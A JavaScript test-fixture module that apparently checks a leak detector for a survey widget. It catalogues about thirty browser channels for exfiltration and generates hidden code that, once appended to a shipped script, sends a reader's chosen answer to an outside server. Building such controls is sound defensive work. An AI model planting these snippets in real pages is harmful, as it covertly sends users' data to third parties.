// The control: ways out, each as code that a shipped file could hold. `said` is what the reader has chosen, `to` an
// address of another server with that in it. For each: the rungs that must find it.
export const LEAKS = {
  fetch: ['fetch(to, { mode: "no-cors" })', 'L1 L2 L4 L5'],
  XMLHttpRequest: ['const sent = new XMLHttpRequest(); sent.open("GET", to); sent.send()', 'L1 L2 L4 L5'],
  beacon: ['navigator.sendBeacon(to, said)', 'L1 L2 L4 L5'],
  image: ['new Image().src = to', 'L1 L2 L4 L5'],
  WebSocket: ['new WebSocket(to.replace("http", "ws"))', 'L1 L2 L4 L5'],
  EventSource: ['new EventSource(to)', 'L1 L2 L4 L5'],
  // No request, so nothing in a log: these two are found by what the page hears of them.
  WebRTC: ['new RTCPeerConnection().createDataChannel(said)', 'L1 L2 L5'],
  worker: ['new Worker(URL.createObjectURL(new Blob([said])), { name: said })', 'L1 L2 L5'],
  import: ['import(to)', 'L1 L4 L5'],
  script: ['document.head.append(Object.assign(document.createElement("script"), { src: to }))', 'L1 L2 L4 L5'],
  prefetch: ['document.head.append(Object.assign(document.createElement("link"), { rel: "prefetch", href: to }))', 'L2 L4 L5'],
  'style sheet': ['document.adoptedStyleSheets.push(sheet)', 'L4 L5', `const sheet = new CSSStyleSheet(); sheet.replaceSync(\`body { background: url("\${to}") }\`);`],
  frame: ['document.body.append(Object.assign(document.createElement("iframe"), { src: to }))', 'L1 L2 L4 L5'],
  form: [`const form = Object.assign(document.createElement("form"), { action: to, method: "post" });
    document.body.append(form); form.submit()`, 'L1 L2 L4 L5'],
  link: ['Object.assign(document.createElement("a"), { href: to }).click()', 'L2 L4 L5'],
  window: ['open(to)', 'L1 L2 L4 L5'],
  location: ['location.href = to', 'L1 L2 L4 L5'],
  hash: ['location.hash = said', 'L1 L2 L5'],
  history: ['history.pushState(said, "", `?${said}`)', 'L1 L2 L5'],
  title: ['document.title = said', 'L1 L2 L5'],
  console: ['console.log(said)', 'L1 L2 L5'],
  event: ['element.dispatchEvent(new CustomEvent("trust-checkin-answer", { detail: said }))', 'L1 L2 L5'],
  message: ['parent.postMessage(said, "*")', 'L1 L2 L5'],
  BroadcastChannel: ['const channel = new BroadcastChannel("answers"); channel.postMessage(said)', 'L1 L2'],
  localStorage: ['localStorage.setItem("a", said)', 'L1 L2 L5'],
  sessionStorage: ['sessionStorage.setItem("a", said)', 'L1 L2 L5'],
  cookie: ['document.cookie = `a=${encodeURIComponent(said)}`', 'L1 L2 L5'],
  'window.name': ['window.name = said', 'L1 L2 L5'],
  attribute: ['element.setAttribute("data-answer", said)', 'L5'],
  class: ['element.className = said', 'L5'],
};

/** Which form leaks which way, and which rungs must find it. All ways in the element; in the others, what is different. */
export const CONTROLS = [
  ...Object.entries(LEAKS).map(([name, [, rungs]]) => ['element', name, rungs]),
  ['standalone', 'fetch', 'L1 L2 L4 L5'],
  ['standalone', 'localStorage', 'L1 L2 L5'],
  ['frame', 'fetch', 'L1 L2 L3'],
  ['frame', 'title', 'L1 L2 L5'],
  ['frame', 'message', 'L1 L2 L5'],
  ['frame', 'window', 'L1 L2 L4 L5'],
];

/** Ways out that the strictest policy stops, tried all at once. */
export const STOPPED = ['fetch', 'XMLHttpRequest', 'beacon', 'image', 'WebSocket', 'EventSource', 'import', 'prefetch', 'style sheet', 'frame', 'form'];

/** What the reader says in a visit to a file that leaks. */
export const SAID = 'Almost always';

/** Code to stand at the end of a shipped script. */
export function leak(names, elsewhere) {
  const bodies = names.map((name) => {
    const [body, , before = ''] = LEAKS[name];
    return `{ const to = address + encodeURIComponent('${name} ' + said); ${before} ${body}; }`;
  });
  return `\n;(() => {
    const element = document.querySelector('trust-checkin');
    // Before its card there is no root.
    element.ready.then(() => element.shadowRoot.addEventListener('change', ({ target }) => {
      const said = target.labels[0].textContent.trim();
      if (said !== '${SAID}') return;
      const address = '${elsewhere}leak?';
      ${bodies.join('\n      ')}
    }));
  })();\n`;
}
